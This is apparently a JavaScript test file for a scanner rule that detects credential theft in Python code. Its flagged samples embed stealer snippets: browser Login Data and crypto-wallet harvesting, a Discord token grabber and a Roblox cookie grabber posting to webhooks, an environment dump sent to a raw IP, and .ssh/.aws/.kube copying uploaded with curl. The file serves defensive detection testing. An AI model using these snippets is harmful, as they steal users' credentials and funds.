import { ruleTest } from '../../testing/rule-tester.js';
import rule from './py-credential-theft.js';

ruleTest(rule, {
  clean: [
    // Linear: a browser root in every one of 4000 strings, with no credential file named, is checked once, not 4000².
    { name: 'thousands of browser-path strings, no credential file', file: 'paths.py', code: `P = [\n${Array.from({ length: 4000 }, (_, i) => `  "Google/Chrome/${i}",`).join('\n')}\n]\nexec\n` },
    { name: 'an SSH tool and an AWS SDK path (two developer configs)', file: 'cfg.py', code: `import os, requests\nSSH_DIR = os.path.expanduser("~/.ssh")\nAWS_DIR = os.path.expanduser("~/.aws")\nrequests.get("https://api.example.org")\n` },
    { name: 'paramiko default key paths', file: 'paramiko/client.py', code: `import os\nkeyfiles = [os.path.expanduser("~/.ssh/id_rsa"), os.path.expanduser("~/.ssh/id_ed25519")]\n` },
    { name: 'selenium chrome binary location', file: 'driver.py', code: `CHROME = r"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"\nopts.binary_location = CHROME\n` },
    { name: 'one MetaMask id in a dApp', file: 'app.py', code: `STORE = "https://chrome.google.com/webstore/detail/nkbihfbeogaeaoehlefnkodbefgpgknn"\n` },
    { name: 'env printed locally', file: 'debug.py', code: `import os\nfor k, v in os.environ.items():\n    print(k, v)\n` },
  ],
  flagged: [
    {
      name: 'browser Login Data + wallets',
      file: 'steal.py',
      code: `import os, shutil\npaths = [os.path.join(os.getenv("LOCALAPPDATA"), "Google", "Chrome", "User Data"), "BraveSoftware/Brave-Browser/User Data"]\nfiles = ["Login Data", "Local State"]\nwallets = ["nkbihfbeogaeaoehlefnkodbefgpgknn", "bfnaelmomeimhlpmgjnjophhpkkoljpa", "ibnejdfjmmkpcnlpebklmnkoeoihofec"]\n`,
      findings: [{ line: 2, severity: 'critical', confidence: 'high', message: /browser credential stores, 3 wallet extension ids/ }],
    },
    {
      name: 'discord token grabber with webhook',
      file: 'grab.py',
      code: `import re, requests, os\nroot = os.getenv("APPDATA") + "\\\\discord\\\\Local Storage\\\\leveldb"\ntokens = re.findall(r"[\\w-]{24}\\.[\\w-]{6}\\.[\\w-]{27}", data)\nrequests.post(hook, json={"content": str(tokens)})\n`,
      findings: [{ line: 2, severity: 'high', confidence: 'medium' }],
    },
    {
      name: 'env dump posted plus keychain',
      file: 'e.py',
      code: `import os, json, urllib.request\nk = "~/Library/Keychains/login.keychain-db"\nurllib.request.urlopen("http://1.2.3.9/e", json.dumps(dict(os.environ)).encode())\n`,
      findings: [{ line: 2, severity: 'critical', message: /macOS keychain, environment dump/ }],
    },
    {
      name: 'Roblox cookie grabber',
      file: 'rcl.py',
      code: `import requests\nfrom winreg import OpenKey, HKEY_CURRENT_USER\nk = OpenKey(HKEY_CURRENT_USER, r"SOFTWARE\\Roblox\\RobloxStudioBrowser\\roblox.com")\nif name == ".ROBLOSECURITY":\n    requests.post(hook, json={"c": value})\n`,
      findings: [{ line: 4, severity: 'high', confidence: 'medium' }],
    },
    {
      name: 'two weak categories stay low',
      file: 'deploy.py',
      code: `KEY = "~/.ssh/id_rsa"\nfields = ["seed"]\n`,
      findings: [{ line: 1, severity: 'medium', confidence: 'low' }],
    },
    {
      name: 'developer secrets collected and sent with curl',
      file: 'api.py',
      code: `import os, shutil\ndef grab(u):\n    ssh = '/Users/' + u + '/.ssh'\n    aws = '/home/' + u + '/.aws'\n    kube = '/home/' + u + '/.kube'\n    hist = '/Users/' + u + '/.bash_history'\n    shutil.copytree(ssh, 'out/ssh')\n    os.system("curl -k -F \\"file=@" + "out.zip" + "\\" \\"https://54.254.189.27/api/v1/file/upload\\"")\n`,
      findings: [{ line: 3, severity: 'high', confidence: 'medium', message: /developer secrets \(\.ssh, \.aws, \.kube, shell history\) in a file that also talks to the network/ }],
    },
  ],
});
